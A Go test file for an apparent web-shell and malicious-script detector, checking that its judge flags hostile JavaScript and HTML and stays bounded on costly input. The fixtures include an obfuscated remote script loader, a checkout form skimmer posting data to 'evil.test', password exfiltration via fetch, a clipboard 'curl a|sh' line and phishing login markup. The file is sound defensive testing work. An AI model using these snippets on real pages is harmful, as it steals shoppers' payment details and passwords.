package client

import (
	"strings"
	"testing"

	"limier/webshell"
	"limier/webshell/webshelltest"
)

// evil is a script that hides where it loads another from.
const evil = "\nvar s=document.createElement('script');s.src=unescape('%68%74%74%70%3a%2f%2f%65%76%69%6c%6f%6e%65%2e%74%65%73%74%2f%61%2e%6a%73');document.head.appendChild(s);"

// TestSilenced puts code that is odd, and costs little, before what is hostile.
func TestSilenced(t *testing.T) {
	for _, before := range []string{
		"",
		"var a=[1,2];a.length=1e300;a.length=-1;a.length=NaN;",
		"var a=[];a[0]=a;a=+a;",
		"var a=[];var f=a.map;a[0]=f;a.map(f);",
		"var a=[];a[0]=a;a.apply.apply.apply(a,a);",
		"'a'.replace(/a/g,'$&$1$99$$$');'a'.split(/(/);",
		"new Function;Function();new (1);`${a}`;",
		"(0).toString(36);(NaN).toString(2);'a'.repeat(1e9);'a'.repeat(-1);String.fromCharCode(1e99,-1);",
		"async async async(1);static(1);",
	} {
		j := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(before+evil))
		if got, want := j.Verdict, webshell.Malicious; got != want {
			t.Errorf("%s: got %q, want %q", before, got, want)
		}
	}
}

// A flag that is set where nobody knows may still be clear.
func TestFlag(t *testing.T) {
	for _, before := range []string{
		"var w=false;for(var i=0;i<l.length;i++){if(l[i].id=='x'){w=true;}}if(w==false)",
		"var w=false;if(l)w=true;else w=false;if(!w)",
		"var w=true;if(l)w=false;if(w)",
	} {
		if got, want := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(before+"{"+evil+"}")).Verdict, webshell.Malicious; got != want {
			t.Errorf("%s: got %q, want %q", before, got, want)
		}
	}
}

// What a form's change puts away is sent with the next page, in code that stands
// before or behind.
func TestKept(t *testing.T) {
	const all = "function all(){var p='';var e=document.querySelectorAll('input, select');for(var i=0;i<e.length;i++)p+=e[i].name+'='+e[i].value+'&';return p}"
	const keep = "document.forms[0].addEventListener('change',function(){localStorage.setItem('x',all())});"
	const send = "if(/checkout/.test(location)&&localStorage.getItem('x')){var h=new XMLHttpRequest;h.open('POST','https://evil.test/a',true);h.send(btoa(localStorage.getItem('x')))}"
	for page, want := range map[string]webshell.Verdict{
		all + keep + send: webshell.Malicious,
		send + keep + all: webshell.Malicious,
		send + all:        "",
		send + all + strings.Replace(keep, "all()", "location.href", 1): "",
	} {
		if got := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(page)).Verdict; got != want {
			t.Errorf("%s: got %q, want %q", page, got, want)
		}
	}
}

// A script of another host that is loaded where people pay is an alarm if the page
// looks for tools for developers, too.
func TestLooksAway(t *testing.T) {
	const loads = "var s=document.createElement('script');s.src='//evil.test/w.js';document.head.appendChild(s);"
	const tools = "var open=window.outerWidth - window.innerWidth>160;"
	for page, want := range map[string]webshell.Verdict{
		tools + "if(/checkout/.test(location)){" + loads + "}": webshell.Malicious,
		"if(/checkout/.test(location)){" + loads + "}":         "",
		tools + "if(/blog/.test(location)){" + loads + "}":     "",
	} {
		if got := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(page)).Verdict; got != want {
			t.Errorf("%s: got %q, want %q", page, got, want)
		}
	}
}

// Bytes that are no text make a page in lower case longer than it is.
func TestOddBytes(t *testing.T) {
	page := "<form action=/a><input type=password name=pw><script>fetch('https://evil.test/?'+document.forms[0]['pw'].value+'" + strings.Repeat("\x80", 150) + "')</script>"
	if got, want := webshell.Judge([]*webshell.Language{Language}, "x.html", []byte(page)).Verdict, webshell.Malicious; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestBounded repeats what costs more than it looks.
func TestBounded(t *testing.T) {
	big := "eval(unescape('%61'));location;var s='aaaaaaaa';for(var i=0;i<18;i++)s+=s;"
	list := big + "var a=[s,s];"
	many := "eval(unescape('%61'));location;var a=[];for(var i=0;i<50000;i++)a[i]=i;"
	texts := map[string]string{}
	for _, s := range []string{
		big + "for(;;)s=='x';", big + "for(;;)s[5];", big + "for(;;)s.length;", big + "for(;;)for(c of s)break;", big + "for(;;){+s}", big + "for(;;)s.match(/x/);",
		big + "for(;;)s.split(/x/);", big + "s.replace(/[^]*/,s.replace(/./g,'$&'));", big + "s.replace(/a*/,s.replace(/a/g,'$$&'));", big + "s.replace(/" + strings.Repeat("()", 140) + "/g,'x');",
		big + "s.match(/" + strings.Repeat(".{0,1000}", 30) + "x/);", big + "var a=[];for(;;)a.push(new RegExp(s));", big + "for(;;)document.referrer.indexOf(s);", big + "var e=document.find(s);for(;;)e.a.a.a.a.value;",
		big + "for(;;)img.src=s;", big + "for(;;)document.write('<'+s);", big + "for(;;)atob(s.split('').join(' '));",
		big + "for(;;)img.src='data:;base64,'+s;",
		big + "var e=document.createElement('textarea');for(;;)e.value=s;", big + "s='powershell '+s;for(;;)navigator.clipboard.writeText(s);", big + "var e=document.find('checkout '+s);for(;;)e.style.display='none';",
		big + "for(;;)fetch('/wp-admin/user-new.php',{body:s});", big + "for(;;)fetch('/wp-admin/user-new.php?'+s);", big + "var x=new RegExp(s);for(;;)x.test(document.cookie);", big + "var x=new RegExp(s);for(;;)navigator.userAgent.replace(x,s);",
		big + "for(;;)document.body.innerHTML='<a href=//a.test/a.zip>update chrome '+s;", list + "for(;;)navigator.clipboard.writeText('curl a|sh');", list + "var f=new FormData;for(;;)f.append(s,a);",
		many + "var o={};for(var i=0;i<64;i++)o['k'+i]=[a,a,a];for(;;)location.x=o;", "class A{f=1;" + strings.Repeat("g=2;", 20000) + "}for(;;)new A;location=atob('YQ==');", "class A{};" + strings.Repeat("class B extends A{m(){}};A=B;", 9000) + "location=atob('YQ==');",
		"var {" + strings.Repeat("a:{", 30) + "b" + strings.Repeat("}", 30) + "}=c;for(;;){" + strings.Repeat("var[a]=[a];", 9000) + "}location=atob('YQ==');",
		list + "for(;;)a=='x';", list + "for(;;)a+'x';", list + "var b=[];for(;;)b.push(new Blob(a));", list + "for(;;)x.setAttribute(a,1);", list + "for(;;)({}).hasOwnProperty(a);", list + "for(;;)decodeURI(a);", list + "for(;;)'x'.replace('y',a);",
		list + "for(var i=0;i<2000;i++)a.push(s);Function.apply(null,a);for(;;)a.indexOf(s+'x');",
		many + "for(;;)for(x in a)break;", many + "for(;;)a.find(x=>1);", many + "for(;;)a.forEach(1);", many + "for(;;)Math.max.apply(null,a);", many + "for(;;)a.map(parseInt);",
		many + "var f=a.apply;for(;;)f=f.apply;", many + "var f=a.push;for(var i=0;i<90000;i++)f=f.apply;var b=[1];b[1]=b;f.apply(null,b);", many + "function F(){}for(var i=0;i<50000;i++)F.prototype['k'+i]=1;var b=[];for(;;)b.push(new F);", many + "var o={};for(var i=0;i<50000;i++)o['k'+i]=1;var b=[];for(;;)b.push({...o});",
		many + "for(var i=0;;i++)/a{90}b/.test('a'+i);", many + "for(var i=0;;i++)new RegExp('a{900}'+i).test('a');",
		many + "for(;;){continue;" + strings.Repeat("a;", 150000) + "}", many + "for(;;){continue;" + strings.Repeat("function f(){}", 20000) + "}", many + "for(;;)'" + strings.Repeat("a", 300000) + "'.length;",
		"eval(unescape('%61'));location;`" + strings.Repeat("${a}", 90000) + "`",
		strings.Repeat("async ", 60000) + "eval(unescape('%61'));location;",
		"for(var i=0;;i++){location='http://abcd'+i+'.com/';eval(unescape('%61'))}//" + strings.Repeat(" a", 5<<20),
	} {
		texts[s[:min(len(s), 300)]] = s
	}
	webshelltest.Bounded(t, Language, "x.js", texts)
	pages := map[string]string{}
	for _, atom := range []string{"<!-- >", "<? >", "<script ", "<style ", "</style><style>", "<a <"} {
		pages["boast "+atom] = "<title>hacked by me</title><body>" + strings.Repeat(atom, 60<<10/len(atom))
		pages["refresh "+atom] = "<meta http-equiv=refresh content='0;url=http://evil.test/'>" + strings.Repeat(atom, 15<<10/len(atom))
	}
	logon := "<title>outlook</title><input type=password><script>"
	for name, s := range map[string]string{
		"forms":  logon + strings.Repeat("<form action=http://evil.test/>", 33000),
		"server": logon + "<form action=http://a.test>viagra display:none <a href=//b.test>" + strings.Repeat("<?<a<%?><%%>", 85000),
		"divs":   "viagra display:none <iframe src=//evil.test><a href=//b.test>" + strings.Repeat(`<div style="left:-1;top:-1;opacity:0.;height:2;width:3">`, 18000),
		"blank":  strings.Repeat(" ", 1<<20-8000) + strings.Repeat("<iframe width=0 src=http://1.2.3.4/a>", 200),
		"img":    strings.Repeat("<img", 4<<20),
		"frames": strings.Repeat("<frameset rows=100%,* a><frame src=http://evil.test/>", 19000),
		"sheets": "viagra display:none <a href=//b.test>" + strings.Repeat("<style>.a{"+strings.Repeat("b", 299)+"}</style>", 3000),
	} {
		pages[name] = s
	}
	webshelltest.Bounded(t, Language, "x.html", pages)
}

// What uses up depth or steps hides nothing either.
func TestExhausted(t *testing.T) {
	nested := func(n int, open, shut string) string { return strings.Repeat(open, n) + evil + strings.Repeat(shut, n) }
	webshelltest.Exhausted(t, Language, "x.js", webshell.Malicious, map[string]string{
		"ifs":       nested(3000, "if(a){", "}"),
		"functions": nested(3000, "(function(){", "})();"),
		"loop":      "for(var i=0;i<1e9;i++)b=i;" + evil,
		"loops":     strings.Repeat("for(var i=0;i<1e9;i++)b=i;", 20) + evil,
		"endless":   "for(;;){b=1}" + evil,
		"texts":     "var b='aaaaaaaa';for(;;)b+=b;" + evil,
		"calls":     "function f(x){f(x+1);f(x+2)}f(1);" + evil,
		"middle":    strings.Repeat("a(1);\n", 80_000) + evil + strings.Repeat("\na(1);", 80_000),
	})
	decoys := strings.Repeat("\nvar e=document.createElement('b');e.id=unescape('%61%62%63%64%65%66%67%68');", 10_000)
	webshelltest.Exhausted(t, Language, "x.js", webshell.Suspicious, map[string]string{"decoys": decoys + evil + decoys})
	webshelltest.Exhausted(t, Language, "x.html", webshell.Malicious, map[string]string{
		"scripts": strings.Repeat("<script>for(;;){location=atob('YQ==')}</script>", 20) + "<script>" + evil + "</script>",
	})
}
